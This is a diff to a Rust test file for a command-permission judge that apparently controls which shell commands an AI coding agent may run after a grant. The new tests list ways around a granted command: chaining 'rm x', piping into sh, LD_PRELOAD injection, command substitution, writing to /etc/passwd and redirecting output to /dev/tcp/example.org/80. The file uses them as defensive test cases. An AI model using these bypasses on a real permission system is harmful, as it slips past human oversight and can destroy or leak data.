@@ -6,7 +6,7 @@ use std::sync::Arc;
 
 use zk_core::model::{Effect, Effects};
 use zk_core::service::{CallDecision, CallJudge, CallJudgement, WiderKind};
-use zk_permission::{Mode, PermissionJudge, Rules, TextPathClassifier};
+use zk_permission::{HostPathClassifier, Mode, PermissionJudge, Rules, TextPathClassifier};
 
 /// A project with a manifest of each kind.
 struct Project {
@@ -63,7 +63,6 @@ const DETOURS: &[&str] = &[
     "rm x && {}",
     "true && {}",
     "{} | sh",
-    "{} | tail",
     "{} | tee /etc/passwd",
     "{} > out",
     "{} >> out",
@@ -131,6 +130,113 @@ fn no_way_around_the_grant_of_a_command_runs_unasked_in_the_sandbox_or_outside()
         }
     }
     assert!(ran.is_empty(), "{}", ran.join("\n"));
+}
+
+/// Texts that may stand behind a granted command in the sandbox: a part of its output is shown.
+const FILTERED: &[&str] = &[
+    "{} 2>&1 | tail",
+    "{} | tail -n 20",
+    "{} 2>&1 | tail -20",
+    "{} | head -n5 | cat",
+    "{} 2>/dev/null | grep -v warning",
+    "{} 2>&1 | grep -iE 'fail|error' -A 3 | head -c +100",
+    "{} | grep -c ok | wc -l",
+    "{} 2>&1",
+    "{} > /dev/null",
+    "{} | tail -n +3",
+];
+
+/// Ways to more than a part of the output.
+const UNFILTERED: &[&str] = &[
+    "{} | tail -f",
+    "{} | tail file",
+    "{} | tail -n 5 /etc/passwd",
+    "{} | tail -n x",
+    "{} | tail -n",
+    "{} | tail --follow=name x",
+    "{} | tail --pid=1",
+    "{} | tail -",
+    "{} | tail > out",
+    "{} | tail >> out",
+    "{} | tail 2> out",
+    "{} | tail < in",
+    "{} | tail | sh",
+    "{} | sh | tail",
+    "{} | tail | tee out",
+    "{} | tail; rm x",
+    "{} | tail && rm x",
+    "{} | tail || rm x",
+    "{} || tail",
+    "{} && tail",
+    "{}; tail",
+    "{} | tail &",
+    "{} |& tail",
+    "{} | (tail)",
+    "{} | tail\nrm x",
+    "{} | tail $(rm x)",
+    "{} | tail `rm x`",
+    "{} | tail -n $N",
+    "{} | tail *",
+    "{} | ./tail",
+    "{} | /tmp/tail",
+    "{} | LD_PRELOAD=/tmp/x.so tail",
+    "LD_PRELOAD=/tmp/x.so {} | tail",
+    "{} | env tail",
+    "{} | xargs rm",
+    "{} | xargs tail",
+    "{} | grep -f patterns",
+    "{} | grep -r x",
+    "{} | grep x file",
+    "{} | grep -e x file",
+    "{} | grep x -- file",
+    "{} | grep --include=x y",
+    "{} | grep -P x",
+    "{} | cat file",
+    "{} | cat -",
+    "{} | wc --files0-from=x",
+    "{} | sort -o out",
+    "{} | sed -n w out",
+    "{} | awk 1",
+    "{} > out | tail",
+    "{} 2> out | tail",
+    "{} < in | tail",
+    "{} 2>&1 > out | tail",
+    "tail x | {}",
+    "rm x | {} | tail",
+    "{} | tail | {} && rm x",
+    "cd sub && {} | tail",
+    "bash -c '{}' | tail",
+    "timeout 5 {} | tail",
+    "{} > /dev/null/../out",
+    "{} > /dev/nullx",
+    "{} > /dev/tcp/example.org/80",
+];
+
+#[test]
+fn a_granted_command_may_have_filters_of_its_output_behind_it_in_the_sandbox_and_nothing_else() {
+    let project = Project::new();
+    let root = project.root();
+    for command in ["npm test", "cargo test", "make check", "pytest"] {
+        let judge = project.contained();
+        let texts = |ways: &[&str]| ways.iter().map(|way| way.replace("{}", command)).collect::<Vec<_>>();
+        let more: Vec<String> =
+            texts(UNFILTERED).into_iter().filter(|text| !runs(&judge, text, &root)).collect();
+        assert!(more.len() + 2 >= UNFILTERED.len(), "{command}: {} of {}", more.len(), UNFILTERED.len());
+        // The question about a filtered command offers the command itself.
+        grant(&judge, &format!("{command} 2>&1 | tail -n 20"), &root);
+        assert!(runs(&judge, command, &root), "{command}");
+        for text in texts(FILTERED) {
+            assert!(runs(&judge, &text, &root), "{text}");
+        }
+        for text in more {
+            assert!(!runs(&judge, &text, &root), "{text}");
+        }
+        let host = project.judge(Mode::Ask);
+        grant(&host, command, &root);
+        for text in texts(FILTERED) {
+            assert!(!runs(&host, &text, &root), "outside of the sandbox: {text}");
+        }
+    }
 }
 
 #[test]
@@ -297,4 +403,30 @@ fn a_program_alone_is_allowed_alone() {
     for command in ["make SHELL=/tmp/x", "make -f other", "make check"] {
         assert!(!runs(&judge, command, &root), "{command}");
     }
+}
+
+#[test]
+fn reads_of_files_are_judged_at_once_until_a_grant_has_to_be_compared_with_files() {
+    let project = Project::new();
+    let root = project.root();
+    let here = Arc::new(HostPathClassifier::new(std::slice::from_ref(&root), None, &[]));
+    let judge = PermissionJudge::new(Mode::Ask, Rules::new(), root.clone(), here).contained();
+    let read = Effects::reads(["Makefile"]);
+    if !judge.is_quick(&read, &root) {
+        return println!("skipped: this system does not tell what it has cached");
+    }
+    for waits in [
+        Effects::reads(["missing"]),
+        Effects::reads(vec!["Makefile"; 9]),
+        Effects::writes(["Makefile"]),
+        Effects::executes("cat Makefile"),
+        Effects::Unknown,
+    ] {
+        assert!(!judge.is_quick(&waits, &root), "{waits:?}");
+    }
+    let offer = call(&project.contained(), "make test", &root).offer.unwrap();
+    judge.remember(&offer, false).unwrap();
+    assert!(!judge.is_quick(&read, &root));
+    judge.forget_session();
+    assert!(judge.is_quick(&read, &root));
 }
